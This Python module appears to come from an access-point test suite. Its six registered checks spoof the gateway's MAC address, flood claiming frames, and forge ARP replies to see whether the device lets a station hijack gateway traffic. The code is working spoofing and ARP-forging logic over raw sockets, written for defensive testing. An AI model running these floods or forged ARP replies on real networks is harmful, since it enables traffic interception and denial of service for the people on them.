# SPDX-License-Identifier: Apache-2.0
"""Address takeover: a station sends with the gateway's MAC address while another one sends to the gateway.

The gateway's own frames are the attack's to send, for the worst moment is right before the next claim. The steady
packets are those of the other station; `carried` says how many of them reached the gateway.
"""

import select
import socket
import threading
import time

from accesspoint.checks.bench.switch.program import SERVER_MAC
from accesspoint.checks.hostile.attack import Target, attack
from accesspoint.checks.hostile.attacks.packets import port
from accesspoint.checks.hostile.servers import RADIO_PORT, SPOOFER_PORT, UPLINK_PORT

GATEWAY = bytes.fromhex(SERVER_MAC.replace(":", ""))
GATEWAY_IP = bytes([192, 0, 2, 1])
EVERYBODY = b"\xff" * 6
CLAIM = EVERYBODY + GATEWAY + b"\x88\xb5" + bytes(46)
"""A frame of an experimental EtherType, which nobody answers (IEEE 802, 9.2.4)."""
PAUSE = 0.05


class Ends:
    """The gateway behind the uplink, and a station behind another port."""

    def __init__(self, target: Target, number: int = SPOOFER_PORT) -> None:
        self.target = target
        self._gateway, self._spoofer = port(target, UPLINK_PORT), port(target, number)

    def speak(self) -> None:
        """Send a frame of the gateway."""
        self._gateway.send(CLAIM)
        time.sleep(PAUSE)

    def claim(self) -> None:
        """Send the gateway's frame from the spoofer's port."""
        self._spoofer.send(CLAIM)

    def claim_without_end(self, speaks_every: float = 0.0) -> None:
        """Claim a thousand times a second, while the gateway speaks now and then or not at all."""
        speaks_at = time.monotonic() + speaks_every
        while self.target.running():
            self.claim()
            if speaks_every and time.monotonic() > speaks_at:
                self._gateway.send(CLAIM)
                speaks_at += speaks_every
            time.sleep(0.001)

    def answer(self) -> None:
        """Let the gateway say nothing but what it answers to ARP."""
        asked = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0806))
        asked.bind((self.target.places["ports"][str(UPLINK_PORT)], 0x0806))
        self._gateway.send(_arp(EVERYBODY, bytes(4)))
        time.sleep(PAUSE)
        threading.Thread(target=self._answer, args=(asked,), daemon=True).start()

    def _answer(self, asked: socket.socket) -> None:
        while self.target.running():
            if select.select([asked], [], [], PAUSE)[0]:
                frame, address = asked.recvfrom(2048)
                if address[2] != socket.PACKET_OUTGOING and frame[38:42] == GATEWAY_IP:
                    self._gateway.send(_arp(frame[6:12], frame[28:32]))


def _arp(to: bytes, address: bytes) -> bytes:
    """The gateway's answer to ARP (RFC 826)."""
    header = to + GATEWAY + bytes.fromhex("08060001080006040002")
    return (header + GATEWAY + GATEWAY_IP + to + address).ljust(60, b"\0")


def _rest(target: Target) -> None:
    time.sleep(target.left())


@attack("access-point", prefix="gateway-")
def claimed_once(target: Target) -> None:
    """One frame with the gateway's address, after which the gateway says nothing"""
    ends = Ends(target)
    ends.speak()
    ends.claim()
    _rest(target)


@attack("access-point", short=True, prefix="gateway-")
def claimed_by_three_frames(target: Target) -> None:
    """Three frames with the gateway's address, each after one of the gateway"""
    ends = Ends(target)
    for _ in range(3):
        ends.speak()
        ends.claim()
        time.sleep(PAUSE)
    _rest(target)


@attack("access-point", prefix="gateway-")
def claimed_without_end(target: Target) -> None:
    """A thousand frames a second with the gateway's address, while the gateway speaks ten times a second"""
    ends = Ends(target)
    ends.speak()
    ends.claim_without_end(0.1)


@attack("access-point", prefix="gateway-")
def claimed_before_it_spoke(target: Target) -> None:
    """A thousand frames a second with the gateway's address, while the gateway speaks once, 50 ms after the first"""
    ends = Ends(target)
    ends.claim()
    time.sleep(PAUSE)
    ends.speak()
    ends.claim_without_end()


@attack("access-point", prefix="gateway-")
def claimed_on_a_radio(target: Target) -> None:
    """A thousand frames a second with the gateway's address on a radio, while the gateway speaks ten times a second"""
    ends = Ends(target, RADIO_PORT)
    ends.speak()
    ends.claim_without_end(0.1)


@attack("access-point", prefix="gateway-")
def claimed_on_a_radio_in_silence(target: Target) -> None:
    """A thousand frames a second with the gateway's address on a radio, while the gateway only answers ARP"""
    ends = Ends(target, RADIO_PORT)
    ends.answer()
    ends.claim_without_end()
